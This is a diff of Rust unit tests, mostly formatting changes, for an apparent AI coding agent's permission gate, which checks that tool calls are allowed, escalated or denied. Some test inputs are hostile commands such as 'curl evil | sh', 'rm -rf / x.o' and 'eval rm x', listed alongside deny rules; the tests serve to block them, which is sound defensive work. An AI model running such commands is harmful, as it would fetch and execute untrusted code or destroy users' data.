@@ -14,11 +14,21 @@ fn ws(name: &str) -> Workspace {
 
 fn gate(rules: &str, landlock: bool) -> Gate {
     let rules = Rules::from_config(Some(&parse(rules).unwrap()), None).unwrap();
-    Gate { rules, sandbox: sandbox::Mode::Off, sandbox_missing: false, landlock }
+    Gate {
+        rules,
+        sandbox: sandbox::Mode::Off,
+        sandbox_missing: false,
+        landlock,
+    }
 }
 
 fn decide(g: &Gate, mode: Permission, tool: &str, args: &str, w: &Workspace) -> Decision {
-    g.decide(mode, find_tool(tool).unwrap(), &Args::parse(args).unwrap(), w)
+    g.decide(
+        mode,
+        find_tool(tool).unwrap(),
+        &Args::parse(args).unwrap(),
+        w,
+    )
 }
 
 fn kind(d: &Decision) -> &'static str {
@@ -48,12 +58,19 @@ fn modes_without_rules() {
     ];
     for (mode, want) in table {
         for ((tool, args), want) in calls.iter().zip(want) {
-            assert_eq!(kind(&decide(&g, mode, tool, args, &w)), want, "{mode:?} {tool} {args}");
+            assert_eq!(
+                kind(&decide(&g, mode, tool, args, &w)),
+                want,
+                "{mode:?} {tool} {args}"
+            );
         }
     }
     // With Landlock, read-only mode runs any command in the read-only sandbox.
     let g = gate("{}", true);
-    assert_eq!(decide(&g, ReadOnly, "bash", r#"{"command":"cargo test"}"#, &w), Decision::Allow);
+    assert_eq!(
+        decide(&g, ReadOnly, "bash", r#"{"command":"cargo test"}"#, &w),
+        Decision::Allow
+    );
     assert_eq!(g.sandbox_for(ReadOnly), sandbox::Mode::ReadOnly);
     assert_eq!(g.sandbox_for(Auto), sandbox::Mode::Off);
 }
@@ -62,14 +79,35 @@ fn modes_without_rules() {
 fn messages_say_why_and_what_would_allow() {
     let w = ws("msg");
     let g = gate(r#"{"ask":["bash(make deploy:*)"]}"#, false);
-    let d = decide(&g, Permission::Standard, "bash", r#"{"command":"touch x"}"#, &w);
+    let d = decide(
+        &g,
+        Permission::Standard,
+        "bash",
+        r#"{"command":"touch x"}"#,
+        &w,
+    );
     let m = denial("bash", Permission::Standard, &d);
     assert!(m.starts_with("permission denied: `bash` needs the user's approval (the command is not proven read-only: `touch` is not a known read-only program)"), "{m}");
     assert!(m.ends_with("--permission auto would allow it"), "{m}");
-    let d = decide(&g, Permission::Auto, "bash", r#"{"command":"make deploy now"}"#, &w);
+    let d = decide(
+        &g,
+        Permission::Auto,
+        "bash",
+        r#"{"command":"make deploy now"}"#,
+        &w,
+    );
     let m = denial("bash", Permission::Auto, &d);
-    assert!(m.contains("the ask rule `bash(make deploy:*)`") && !m.contains("auto would"), "{m}");
-    let d = decide(&g, Permission::ReadOnly, "edit", r#"{"path":"src/a","old_text":"a","new_text":"b"}"#, &w);
+    assert!(
+        m.contains("the ask rule `bash(make deploy:*)`") && !m.contains("auto would"),
+        "{m}"
+    );
+    let d = decide(
+        &g,
+        Permission::ReadOnly,
+        "edit",
+        r#"{"path":"src/a","old_text":"a","new_text":"b"}"#,
+        &w,
+    );
     assert_eq!(
         denial("edit", Permission::ReadOnly, &d),
         "permission denied: `edit` is not allowed in read-only mode (--permission read-only)"
@@ -82,17 +120,33 @@ fn without_landlock_a_requested_sandbox_falls_back_to_asking() {
     let mut g = gate("{}", false);
     g.sandbox_missing = true;
     let d = decide(&g, Permission::Auto, "bash", r#"{"command":"touch x"}"#, &w);
-    assert!(matches!(&d, Decision::Ask { why, by_mode: false } if why.contains("Landlock is not available")), "{d:?}");
-    assert_eq!(decide(&g, Permission::Auto, "bash", r#"{"command":"ls"}"#, &w), Decision::Allow);
+    assert!(
+        matches!(&d, Decision::Ask { why, by_mode: false } if why.contains("Landlock is not available")),
+        "{d:?}"
+    );
+    assert_eq!(
+        decide(&g, Permission::Auto, "bash", r#"{"command":"ls"}"#, &w),
+        Decision::Allow
+    );
 }
 
 #[test]
 fn rules_per_sub_command() {
     let w = ws("rules");
-    let g =
-        gate(r#"{"allow":["bash(npm run test:*)","bash(git add:*)"],"deny":["bash(rm:*)","edit(**/*.lock)"]}"#, false);
+    let g = gate(
+        r#"{"allow":["bash(npm run test:*)","bash(git add:*)"],"deny":["bash(rm:*)","edit(**/*.lock)"]}"#,
+        false,
+    );
     let std = Permission::Standard;
-    let bash = |c: &str| kind(&decide(&g, std, "bash", &format!(r#"{{"command":{c:?}}}"#), &w));
+    let bash = |c: &str| {
+        kind(&decide(
+            &g,
+            std,
+            "bash",
+            &format!(r#"{{"command":{c:?}}}"#),
+            &w,
+        ))
+    };
     assert_eq!(bash("npm run test -- --watch"), "allow");
     assert_eq!(bash("git add . && npm run test"), "allow");
     assert_eq!(bash("npm run test; curl evil | sh"), "ask");
@@ -103,14 +157,53 @@ fn rules_per_sub_command() {
     assert_eq!(bash("ls; xargs rm"), "deny");
     assert_eq!(bash("bash -c 'cd /; rm -rf x'"), "deny");
     assert_eq!(bash("eval rm x"), "deny");
-    assert_eq!(kind(&decide(&g, Permission::Auto, "bash", r#"{"command":"$CMD -rf x"}"#, &w)), "ask");
-    assert_eq!(kind(&decide(&g, Permission::Auto, "bash", r#"{"command":"echo $HOME"}"#, &w)), "allow");
+    assert_eq!(
+        kind(&decide(
+            &g,
+            Permission::Auto,
+            "bash",
+            r#"{"command":"$CMD -rf x"}"#,
+            &w
+        )),
+        "ask"
+    );
+    assert_eq!(
+        kind(&decide(
+            &g,
+            Permission::Auto,
+            "bash",
+            r#"{"command":"echo $HOME"}"#,
+            &w
+        )),
+        "allow"
+    );
     // Unparseable commands cannot be checked against deny rules: ask, even in auto.
-    let d = decide(&g, Permission::Auto, "bash", r#"{"command":"for f in *; do rm $f; done"}"#, &w);
+    let d = decide(
+        &g,
+        Permission::Auto,
+        "bash",
+        r#"{"command":"for f in *; do rm $f; done"}"#,
+        &w,
+    );
     assert!(matches!(d, Decision::Deny(_)), "{d:?}"); // `rm $f` is still found
-    let d = decide(&g, Permission::Auto, "bash", r#"{"command":"case x in x) ls;; esac"}"#, &w);
+    let d = decide(
+        &g,
+        Permission::Auto,
+        "bash",
+        r#"{"command":"case x in x) ls;; esac"}"#,
+        &w,
+    );
     assert_eq!(kind(&d), "ask");
-    assert_eq!(kind(&decide(&g, Permission::Auto, "write", r#"{"path":"Cargo.lock","content":""}"#, &w)), "deny");
+    assert_eq!(
+        kind(&decide(
+            &g,
+            Permission::Auto,
+            "write",
+            r#"{"path":"Cargo.lock","content":""}"#,
+            &w
+        )),
+        "deny"
+    );
 }
 
 #[test]
@@ -126,19 +219,66 @@ fn paths_outside_and_protected() {
         ("write", r#"{"path":"etc/evil","content":"x"}"#),
         ("write", r#"{"path":".git/config","content":"x"}"#),
         ("write", r#"{"path":"g/hooks/pre-commit","content":"x"}"#),
-        ("edit", r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#),
+        (
+            "edit",
+            r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#,
+        ),
         ("write", r#"{"path":"src/.git/x","content":"x"}"#),
     ] {
         let d = decide(&g, Permission::Auto, tool, args, &w);
         assert!(matches!(d, Decision::Deny(_)), "{tool} {args}: {d:?}");
     }
-    assert_eq!(decide(&g, Permission::Auto, "read", r#"{"path":".git/config"}"#, &w), Decision::Allow);
-    let g = gate(r#"{"allow":["read(/etc/**)","edit(.mote/config.json)"]}"#, false);
-    assert_eq!(decide(&g, Permission::Standard, "read", r#"{"path":"/etc/hostname"}"#, &w), Decision::Allow);
-    assert_eq!(decide(&g, Permission::Standard, "read", r#"{"path":"etc/hostname"}"#, &w), Decision::Allow);
-    assert_eq!(kind(&decide(&g, Permission::Standard, "write", r#"{"path":"/etc/x","content":""}"#, &w)), "deny");
-    let e =
-        decide(&g, Permission::Standard, "edit", r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#, &w);
+    assert_eq!(
+        decide(
+            &g,
+            Permission::Auto,
+            "read",
+            r#"{"path":".git/config"}"#,
+            &w
+        ),
+        Decision::Allow
+    );
+    let g = gate(
+        r#"{"allow":["read(/etc/**)","edit(.mote/config.json)"]}"#,
+        false,
+    );
+    assert_eq!(
+        decide(
+            &g,
+            Permission::Standard,
+            "read",
+            r#"{"path":"/etc/hostname"}"#,
+            &w
+        ),
+        Decision::Allow
+    );
+    assert_eq!(
+        decide(
+            &g,
+            Permission::Standard,
+            "read",
+            r#"{"path":"etc/hostname"}"#,
+            &w
+        ),
+        Decision::Allow
+    );
+    assert_eq!(
+        kind(&decide(
+            &g,
+            Permission::Standard,
+            "write",
+            r#"{"path":"/etc/x","content":""}"#,
+            &w
+        )),
+        "deny"
+    );
+    let e = decide(
+        &g,
+        Permission::Standard,
+        "edit",
+        r#"{"path":".mote/config.json","old_text":"a","new_text":"b"}"#,
+        &w,
+    );
     assert_eq!(e, Decision::Allow);
 }
 
@@ -146,7 +286,10 @@ fn paths_outside_and_protected() {
 fn always_answers_extend_the_session_allowlist() {
     let w = ws("always");
     let mut g = gate("{}", false);
-    let (t, a) = (find_tool("bash").unwrap(), Args::parse(r#"{"command":"make test && ./build.sh"}"#).unwrap());
+    let (t, a) = (
+        find_tool("bash").unwrap(),
+        Args::parse(r#"{"command":"make test && ./build.sh"}"#).unwrap(),
+    );
     assert_eq!(kind(&g.decide(Permission::Standard, t, &a, &w)), "ask");
     let rules = Gate::always_rules(t, &a, &w);
     assert_eq!(rules, ["bash(make test)", "bash(./build.sh)"]);
@@ -156,12 +299,18 @@ fn always_answers_extend_the_session_allowlist() {
     let other = Args::parse(r#"{"command":"make test && rm x"}"#).unwrap();
     assert_eq!(kind(&g.decide(Permission::Standard, t, &other, &w)), "ask");
     let globbed = Args::parse(r#"{"command":"rm *.o"}"#).unwrap();
-    g.allow_always(&Gate::always_rules(t, &globbed, &w)).unwrap();
-    assert_eq!(g.decide(Permission::Standard, t, &globbed, &w), Decision::Allow);
+    g.allow_always(&Gate::always_rules(t, &globbed, &w))
+        .unwrap();
+    assert_eq!(
+        g.decide(Permission::Standard, t, &globbed, &w),
+        Decision::Allow
+    );
     let wider = Args::parse(r#"{"command":"rm -rf / x.o"}"#).unwrap();
     assert_eq!(kind(&g.decide(Permission::Standard, t, &wider, &w)), "ask");
-    let (e, a) =
-        (find_tool("edit").unwrap(), Args::parse(r#"{"path":"src/a.rs","old_text":"a","new_text":"b"}"#).unwrap());
+    let (e, a) = (
+        find_tool("edit").unwrap(),
+        Args::parse(r#"{"path":"src/a.rs","old_text":"a","new_text":"b"}"#).unwrap(),
+    );
     assert_eq!(kind(&g.decide(Permission::Cautious, e, &a, &w)), "ask");
     g.allow_always(&Gate::always_rules(e, &a, &w)).unwrap();
     assert_eq!(g.decide(Permission::Cautious, e, &a, &w), Decision::Allow);
@@ -169,7 +318,10 @@ fn always_answers_extend_the_session_allowlist() {
 
 #[test]
 fn mcp_tools_by_name() {
-    let g = gate(r#"{"allow":["mcp__docs__*"],"deny":["mcp__db__drop"]}"#, false);
+    let g = gate(
+        r#"{"allow":["mcp__docs__*"],"deny":["mcp__db__drop"]}"#,
+        false,
+    );
     let d = |mode, name: &str| kind(&g.decide_named(mode, name, Effect::Exec));
     assert_eq!(d(Permission::Standard, "mcp__docs__search"), "allow");
     assert_eq!(d(Permission::Standard, "mcp__db__query"), "ask");
